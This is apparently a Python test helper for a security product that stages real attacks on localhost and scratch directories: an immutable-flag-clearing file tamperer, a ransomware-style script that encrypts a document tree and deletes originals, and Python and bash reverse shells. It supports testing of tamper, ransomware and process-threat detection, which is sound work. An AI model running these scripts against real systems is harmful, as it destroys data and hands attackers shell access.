"""Real attacks shared by the tests: on protected files (web tamper protection and ransomware) a writer
that clears the immutable flag first and an encrypting script over a tree of documents; on processes
(process threats) reverse shells connected to a local listener."""

from __future__ import annotations

import random
import shutil
import socket
import subprocess
import sys
import tempfile
import time
from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path

# Clears the flag with the ioctl and writes at once, like an attacker who holds CAP_LINUX_IMMUTABLE;
# then lingers (argv[3] seconds) so /proc still describes it when the guard names the writer.
# Prints "written", or "refused" and exits 3 when the file stayed locked.
TAMPER = r"""
import array, fcntl, os, sys, time
path, text = sys.argv[1], sys.argv[2]
fd = os.open(path, os.O_RDONLY)
buf = array.array("i", [0]); fcntl.ioctl(fd, 0x80086601, buf, True)
fcntl.ioctl(fd, 0x40086602, array.array("i", [buf[0] & ~0x10]), True)
os.close(fd)
try:
    with open(path, "w") as f:
        f.write(text)
except PermissionError:
    print("refused", flush=True)
    sys.exit(3)
print("written", flush=True)
time.sleep(float(sys.argv[3]) if len(sys.argv) > 3 else 0.5)
"""

# Encrypts every file under argv[1] (AES-GCM, renamed to .locked), argv[2] seconds apart, printing each
# path and "DONE" at the end: what a ransomware process does to a document tree.
ENCRYPT = r"""
import os, sys, time
from cryptography.hazmat.primitives.ciphers.aead import AESGCM
aes = AESGCM(AESGCM.generate_key(bit_length=256))
top, delay = sys.argv[1], float(sys.argv[2])
for root, dirs, files in os.walk(top):
    dirs.sort()
    for name in sorted(files):
        if name.endswith(".locked"):
            continue
        path = os.path.join(root, name)
        with open(path, "rb") as f:
            data = f.read()
        nonce = os.urandom(12)
        with open(path + ".locked", "wb") as f:
            f.write(nonce + aes.encrypt(nonce, data, None))
        os.unlink(path)
        print(path, flush=True)
        time.sleep(delay)
print("DONE", flush=True)
"""

EXTENSIONS = ("docx", "xlsx", "txt", "pdf")


def start_tamper(path: Path, text: str, linger: float = 0.5) -> subprocess.Popen[bytes]:
    """Start a tamper process (its stdout says whether the write got through)."""
    return subprocess.Popen(
        [sys.executable, "-c", TAMPER, str(path), text, str(linger)], stdout=subprocess.PIPE
    )


@contextmanager
def document_tree(prefix: str, subdirs: Sequence[str], per_dir: int, seed: int, size: int) -> Iterator[Path]:
    """A scratch tree under /var/tmp: ``docs/<subdir>/fileNNN.<ext>`` (random bytes, ``size + i`` long)
    and the encrypting script as ``tools/encrypt.py``; removed afterwards."""
    base = Path(tempfile.mkdtemp(prefix=prefix, dir="/var/tmp"))
    docs = base / "docs"
    rng = random.Random(seed)
    for sub in subdirs:
        (docs / sub).mkdir(parents=True)
        for i in range(per_dir):
            (docs / sub / f"file{i:03d}.{EXTENSIONS[i % 4]}").write_bytes(rng.randbytes(size + i))
    (base / "tools").mkdir()
    (base / "tools" / "encrypt.py").write_text(ENCRYPT)
    try:
        yield base
    finally:
        shutil.rmtree(base, ignore_errors=True)


def originals(docs: Path) -> dict[str, bytes]:
    """Protected documents by path (the excluded cache directory is not snapshotted, by design)."""
    return {
        str(p): p.read_bytes()
        for p in docs.rglob("*")
        if p.is_file() and not p.name.startswith(".") and "cache" not in p.parts
    }


# Connects back to argv[1] on 127.0.0.1 itself and runs a shell on the socket: a reverse shell with no
# bash redirection, only an interpreter.
PY_SHELL = (
    "import os,socket,subprocess,sys; s=socket.create_connection(('127.0.0.1', int(sys.argv[1])));"
    " [os.dup2(s.fileno(), f) for f in (0, 1, 2)]; subprocess.call(['/bin/sh', '-i'])"
)


@dataclass
class ReverseShell:
    """A running reverse shell, the attacker's end of its connection and when it was started (wall clock
    and monotonic, taken just before the shell process)."""

    shell: subprocess.Popen[bytes]
    attacker: socket.socket
    port: int
    started: float
    started_mono: float

    def wait_hung_up(self, timeout: float) -> None:
        """Read the attacker's end until the shell's end goes away (the shell was killed)."""
        self.attacker.settimeout(timeout)
        while self.attacker.recv(4096):
            pass


@contextmanager
def reverse_shell(python: bool = False, timeout: float = 15.0) -> Iterator[ReverseShell]:
    """A reverse shell to a listener on 127.0.0.1: ``bash -i`` with the connected socket as its stdio, or
    (``python``) an interpreter that connects by itself (``PY_SHELL``). Killed and closed on exit."""
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(1)
    port = listener.getsockname()[1]
    try:
        if python:
            started, started_mono = time.time(), time.monotonic()
            shell = subprocess.Popen([sys.executable, "-c", PY_SHELL, str(port)], start_new_session=True)
            attacker, _ = listener.accept()
        else:
            client = socket.create_connection(("127.0.0.1", port))
            attacker, _ = listener.accept()
            started, started_mono = time.time(), time.monotonic()
            with client:
                shell = subprocess.Popen(
                    ["bash", "-i"],
                    stdin=client.fileno(),
                    stdout=client.fileno(),
                    stderr=client.fileno(),
                    start_new_session=True,
                )
        try:
            yield ReverseShell(shell, attacker, port, started, started_mono)
        finally:
            if shell.poll() is None:
                shell.kill()
            shell.wait(timeout)
            attacker.close()
    finally:
        listener.close()
